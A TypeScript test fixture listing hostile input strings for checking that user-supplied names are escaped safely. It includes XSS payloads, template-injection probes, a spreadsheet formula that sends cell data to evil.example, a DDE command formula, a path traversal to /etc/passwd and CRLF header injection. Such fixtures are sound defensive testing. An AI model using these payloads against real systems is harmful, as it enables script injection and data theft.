/** Sets a flag where it runs; nothing on any page does. */
const run = "window.ranHere=1";

/** Names that somebody may give to people, teams, partners and things in order to do harm, by what they try. */
export const hostileNames = {
  script: `<script>${run}</script>`,
  "end of a script": `</script><script>${run}</script>`,
  picture: `"><img src=x onerror=${run}>`,
  handler: `x" onmouseover="${run}" autofocus onfocus="${run}`,
  "other quotes": `' onclick='${run}`,
  "end of a title": `</title></textarea></style><svg onload=${run}>`,
  address: `javascript:${run}//`,
  frame: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  template: "{{constructor.constructor('return 1')()}} ${7*7} <%= 7*7 %> #{7*7}",
  "our templates": "{{count}} {{name}} $t(errors.page.fault)",
  formula: `=HYPERLINK("https://evil.example/?"&A1,"klik")`,
  "wide formula": "＝cmd|' /C calc'!A0",
  comment: "--><!--]]><b>vet</b>&lt;i&gt;&#60;u&#62;",
  "other way round": "\u202Egpj.nedrow\u202C thgir",
  "unseen letters": "ad\u200Bmin\u00AD\u2060",
  emoji: "👩‍👩‍👧‍👦🏳️‍🌈 Zoë",
  prototype: "__proto__",
  path: "../../../../etc/passwd",
  header: "naam%0d%0aSet-Cookie: gekaapt=1",
  long: `lang${"é".repeat(110)}`,
} as const;

/** As a page may show it: browsers draw blanks together. */
export const shown = (text: string): string => text.replace(/\s+/g, " ").trim();

/** A cell of a table file. */
export const cell = (text: string): string => `"${text.replaceAll('"', '""')}"`;
